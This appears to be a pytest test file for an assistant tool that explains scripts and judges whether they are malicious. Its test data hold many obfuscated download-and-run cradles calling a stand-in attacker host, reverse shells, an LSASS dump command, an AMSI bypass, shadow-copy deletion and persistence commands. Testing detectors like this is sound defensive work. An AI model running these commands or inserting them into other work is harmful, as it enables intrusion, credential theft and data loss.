@@ -1,0 +1,242 @@
+"""Scripts and commands explained: parts, stages, behaviours and the verdict, in each language and against ill will."""
+
+# ruff: noqa: E501 - scripts under test stand as they would be written
+
+from __future__ import annotations
+
+import base64
+import gzip
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from svc.assistant.findings import Finding, Gap, Progress
+from svc.assistant.skills.script.commands import parts_of
+from svc.assistant.skills.script.explain import words_for
+from svc.assistant.skills.script.language import Language, language_of, script_in
+from svc.assistant.skills.script.stages import unfolded
+from svc.assistant.skills.script.tool import MAX_PARTS, explain
+
+CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.net/a.ps1')"
+
+STARTED = 'new ActiveXObject("WScript.Shell").Run("powershell IEX(iwr http://evil.example.net/a.ps1)")'
+
+
+def wide(text: str) -> str:
+    return base64.b64encode(text.encode("utf-16-le")).decode()
+
+
+def plain64(data: bytes) -> str:
+    return base64.b64encode(data).decode()
+
+
+def explained(text: str, source: str = "prompt") -> list[Finding]:
+    return [item for item in explain(text, source=source) if isinstance(item, Finding)]
+
+
+def of(findings: list[Finding], kind: str) -> list[Finding]:
+    return [finding for finding in findings if finding.kind == kind]
+
+
+def verdict(text: str) -> str:
+    return str(of(explained(text), "script")[0].attributes["verdict"])
+
+
+def stages(text: str) -> list[str]:
+    return [str(stage.attributes["text"]) for stage in of(explained(text), "script_stage")]
+
+
+HIDDEN = {
+    "encoded command": f"powershell -nop -w hidden -enc {wide(CRADLE)}",
+    "encoded twice": f"powershell -e {wide('powershell -enc ' + wide(CRADLE))}",
+    "concatenation": "iex ('IEX (New-Object Net.WebClient).Down'+'loadString(''http://evil.exam'+'ple.net/a.ps1'')')",
+    "character codes": f"iex ([char[]]({','.join(str(ord(char)) for char in CRADLE)})-join'')",
+    "characters one by one": f"iex ({'+'.join(f'[char]{ord(char)}' for char in CRADLE)})",
+    "codes with a key": f"iex (-join(({','.join(str(ord(char) ^ 7) for char in CRADLE)})|%{{[char]($_ -bxor 7)}}))",
+    "format operator": "&('{1}{0}' -f 'EX','I') (New-Object Net.WebClient).('Downlo{0}' -f 'adString').Invoke('http://evil.example.net/a.ps1')",
+    "backwards": f"$t='{CRADLE[::-1].replace(chr(39), chr(39) * 2)}';iex ($t[-1..-($t.Length)] -join '')",
+    "replacement": f"'{CRADLE.replace(chr(39), chr(39) * 2).replace('e', 'QZ')}'.Replace('QZ','e') | IEX",
+    "letters of the environment": f"& ($env:ComSpec[4,24,25]-join'') \"{CRADLE}\"",
+    "gzip": f"iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{plain64(gzip.compress(CRADLE.encode()))}'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
+    "carets": f'c^md /c pow^ershell -c "{CRADLE}"',
+    "parts of variables": 'cmd /c "set a=xxpowershell&& call %a:~2% -c IEX (iwr http://evil.example.net/a.ps1)"',
+    "Base64 into a shell": f"echo {plain64(b'curl -s http://evil.example.net/a.ps1 | bash')} | base64 -d | sh",
+    "printf": "$(printf '\\x63\\x75\\x72\\x6c') http://evil.example.net/a.ps1 | bash",
+    "backwards in a shell": "echo 'hs | 1sp.a/ten.elpmaxe.live//:ptth lruc' | rev | sh",
+    "letters quoted": "c'ur'l http://evil.example.net/a.ps1 | b\\a\\s\\h",
+    "Visual Basic": f'Sub AutoOpen()\nx = "powershell -c " & {" & ".join(f"Chr({ord(char)})" for char in "IEX(iwr http://evil.example.net/a.ps1)")}\nCreateObject("WScript.Shell").Run x, 0\nEnd Sub',
+    "StrReverse": f'Sub Document_Open()\nShell StrReverse("{("powershell -c IEX(iwr http://evil.example.net/a.ps1)")[::-1]}"), 0\nEnd Sub',
+    "JavaScript": "var w='WScr'+'ipt.Shell';new ActiveXObject(w).Run(unescape('powershell%20-c%20IEX(iwr%20http%3A//evil.example.net/a.ps1)'))",
+    "fromCharCode": f"eval(String.fromCharCode({','.join(str(ord(char)) for char in STARTED)}))",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
+def test_what_is_hidden_is_read_and_called_bad(text: str):
+    found = explained(f"explain this:\n{text}")
+    assert of(found, "script")[0].attributes["verdict"] in ("malicious", "suspicious")
+    assert any("evil.example.net" in str(one.attributes["value"]) for one in of(found, "indicator"))
+    assert of(found, "script_stage")
+
+
+BAD = {
+    "reverse shell": ("bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "malicious"),
+    "python reverse shell": ("python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",1));os.dup2(s.fileno(),0)'", "malicious"),
+    "shadow copies": ("vssadmin delete shadows /all /quiet", "malicious"),
+    "lsass": ("rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 612 C:\\l.dmp full", "malicious"),
+    "amsi": ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)", "malicious"),
+    "run key": ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\x.exe /f", "suspicious"),
+    "pipe": ("curl -fsSL https://example.test/install.sh | sudo bash", "suspicious"),
+    "account": ("net user backup$ Pw1! /add & net localgroup administrators backup$ /add", "suspicious"),
+    "scriptlet": ("regsvr32 /s /n /u /i:http://example.test/a.sct scrobj.dll", "suspicious"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("text", "expected"), BAD.values(), ids=BAD)
+def test_what_attackers_do_is_called_so(text: str, expected: str):
+    assert verdict(text) == expected
+
+
+ORDINARY = {
+    "old logs": "Get-ChildItem C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item",
+    "report": "$out = 'C:\\reports\\' + 'services.csv'\nGet-Service | Where-Object {$_.Status -eq 'Running'} | Export-Csv $out",
+    "backup": "#!/bin/bash\nset -euo pipefail\nIFS=$'\\n\\t'\nDIR=/home\ntar czf /backup/home-$(date +%F).tar.gz \"$DIR\"\nmkdir -p /srv/{a,b}\nsystemctl restart nginx\n",
+    "install": "apt-get update && apt-get install -y nginx && systemctl enable --now nginx",
+    "copy": "@echo off\r\nset SRC=C:\\data\r\nxcopy %SRC% D:\\backup /E /Y\r\nif errorlevel 1 echo failed\r\n",
+    "macro": 'Sub Total()\nDim r As Range\nMsgBox "Sum" & Chr(13) & Chr(10) & Application.Sum(Range("A1:A9"))\nEnd Sub',
+    "page": "const names = ['a', 'b'].join(', ');\nfunction greet(user) { console.log('hello ' + user['name'] + names); }\ngreet({name: 'x'});",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("text", ORDINARY.values(), ids=ORDINARY)
+def test_ordinary_work_is_called_ordinary(text: str):
+    assert verdict(text) == "ordinary"
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "language"),
+    [
+        ("", "Get-Process | Stop-Process", Language.POWERSHELL),
+        ("", "curl http://a.test | bash", Language.SHELL),
+        ("", "@echo off\nset a=1", Language.BATCH),
+        ("", 'Sub A()\nSet o = CreateObject("x")\nEnd Sub', Language.VBA),
+        ("", "var a = function () { return 1; };", Language.JAVASCRIPT),
+        ("run.ps1", "echo hello", Language.POWERSHELL),
+        ("run.sh", "echo hello", Language.SHELL),
+    ],
+)
+def test_the_language_is_known_by_words_and_by_name(name: str, text: str, language: Language):
+    assert language_of(text, name=name) is language
+
+
+@pytest.mark.parametrize(
+    ("prompt", "script", "line"),
+    [
+        ("explain this:\nwhoami /all", "whoami /all", 2),
+        ("what does `net user bob /add` do?", "net user bob /add", 1),
+        ("Explain\n```powershell\niex $x\n```\nplease", "iex $x", 3),
+        ("what does this do? curl http://a.test | sh", "curl http://a.test | sh", 1),
+        ("certutil -urlcache -f http://a.test x", "certutil -urlcache -f http://a.test x", 1),
+        ("What does this command do?\n\nnmap 192.0.2.7\n", "nmap 192.0.2.7", 3),
+        ("Explain the one-liner: frob --all", "frob --all", 1),
+    ],
+    ids=[
+        "after a colon",
+        "in backticks",
+        "fenced",
+        "after a question mark",
+        "nothing else",
+        "called a command",
+        "named",
+    ],
+)
+def test_the_script_is_found_in_the_prompt(prompt: str, script: str, line: int):
+    assert script_in(prompt) == (script, line)
+
+
+def test_each_command_is_said_in_words():
+    [part] = parts_of("powershell -nop -w hidden -ep bypass -File %TEMP%\\a.ps1", Language.BATCH)
+    said = words_for(part)
+    assert "without the user's profile" in said
+    assert "its window hidden" in said
+    assert "%temp% is the user's temporary folder" in said
+
+
+def test_commands_come_in_order_with_their_lines():
+    parts = list(parts_of("cd /tmp\nwget http://a.test/x && chmod +x x\n./x &", Language.SHELL))
+    assert [(part.name, part.line) for part in parts] == [("cd", 1), ("wget", 2), ("chmod", 2), ("./x", 3)]
+
+
+@pytest.mark.parametrize(
+    ("language", "text", "plain"),
+    [
+        (Language.BATCH, "set x=abc\necho %x:~1,1%%x:~-1%", "set x=abc\necho bc"),
+        (Language.BATCH, "%ComSpec:~-7%", "cmd.exe"),
+        (Language.SHELL, "a=cur; b=l; $a$b http://x", "a=cur; b=l; curl http://x"),
+        (Language.SHELL, "cat${IFS}/etc/passwd", "cat /etc/passwd"),
+        (Language.SHELL, "{curl,-s,http://x}", "curl -s http://x"),
+        (Language.SHELL, "$(echo d2hvYW1p | base64 -d)", "whoami"),
+        (Language.JAVASCRIPT, "x['ev'+'al']", "x.eval"),
+        (Language.VBA, 'a = Replace("wZoZrd", "Z", "")', 'a = "word"'),
+    ],
+)
+def test_words_are_put_together_as_the_language_would(language: Language, text: str, plain: str):
+    assert unfolded(text, language).text == plain
+
+
+def test_evidence_names_the_line_of_the_input_and_of_the_stage():
+    found = explained(f"explain this script:\necho start\npowershell -enc {wide(CRADLE)}")
+    lines = {one.title: (one.evidence[0].source, one.evidence[0].line) for one in of(found, "script_behaviour")}
+    assert lines["starts PowerShell with an encoded command"] == ("prompt", 3)
+    assert lines["downloads code and runs it from memory"][0].startswith("prompt, stage")
+
+
+def test_a_program_inside_a_script_is_found():
+    found = explained(
+        "$b='"
+        + plain64(b"MZ" + bytes(58) + b"\x40\0\0\0" + b"PE\0\0" + bytes(400))
+        + "';[Reflection.Assembly]::Load([Convert]::FromBase64String($b))"
+    )
+    assert of(found, "script")[0].attributes["verdict"] == "malicious"
+    assert any("program" in str(stage.attributes["form"]) for stage in of(found, "script_stage"))
+
+
+@pytest.mark.parametrize("text", ["", "hello there", "what is the weather?", "\x00\x01"])
+def test_no_script_is_a_gap(text: str):
+    items = list(explain(text, source="prompt"))
+    assert isinstance(items[0], Progress)
+    assert any(isinstance(item, Gap) for item in items)
+    assert not of([item for item in items if isinstance(item, Finding)], "script")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "powershell " + "(" * 20_000,
+        "echo a; " * 30_000,
+        "iex " + "'a'+" * 20_000 + "'b'",
+        "set a=%a%%a%\n" * 3_000 + "%a%",
+        "a=$a$a; " * 3_000,
+        "$a='x';" + "$a+=$a;" * 5_000 + "iex $a",
+        "powershell -enc " + "A" * 200_000,
+        "eval(" * 5_000 + "1" + ")" * 5_000,
+        "\ue000\ue001 iex '\ue000'",
+        "curl http://a.test/" + "a" * 300_000 + " | bash",
+    ],
+    ids=["parentheses", "many commands", "many strings", "cmd growth", "shell growth", "PowerShell growth", "long Base64", "nesting", "marks", "long line"],
+)  # fmt: skip
+def test_hostile_scripts_are_bounded(text: str):
+    started = time.process_time()
+    found = explained(text)
+    assert time.process_time() - started < 15
+    assert len(of(found, "script_part")) <= MAX_PARTS
+
+
+@settings(max_examples=40, deadline=None)
+@given(
+    st.text(max_size=200), st.sampled_from(["iex ", "bash -c ", "cmd /c ", "eval(", "Sub A()\n", "powershell -enc "])
+)
+def test_any_text_is_read(text: str, start: str):
+    explained(start + text, source="x.txt")
